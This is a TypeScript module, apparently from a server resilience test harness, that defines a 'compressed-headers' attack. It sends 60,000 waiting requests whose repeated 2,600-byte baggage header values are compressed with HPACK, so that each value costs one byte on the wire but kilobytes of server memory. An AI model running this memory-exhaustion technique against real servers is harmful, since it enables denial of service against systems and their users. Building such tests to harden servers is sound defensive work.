/**
 * Requests whose trace context is in compressed headers: a value that the dynamic table of the connection holds costs one
 * byte on the wire and kilobytes in the server, for as long as the request waits.
 */
import type { Attack } from "../attack.js";
import { call, METHOD } from "./messages.js";
import { connectionsFor } from "./parties.js";

const REQUESTS = 60_000;
/** Values this long are kept in a table of 4 KiB; a header that is repeated is one value of the call. */
const VALUE = "x".repeat(2_600);

export const compressedHeaders: Attack = {
  name: "compressed-headers",
  sends: `Dispatch: ${REQUESTS} waiting requests with 8 kB of baggage, compressed by HPACK`,
  async run(attacker) {
    const connectionOf = connectionsFor(attacker, 3_000);
    const message = call({ topic: "headers", ttlSeconds: 3_600, waits: true });
    const headers = { baggage: [VALUE, VALUE, VALUE] };
    await attacker.repeat(REQUESTS, 64, (i) => connectionOf(i).call(METHOD.dispatch, message, { headers }));
  },
};
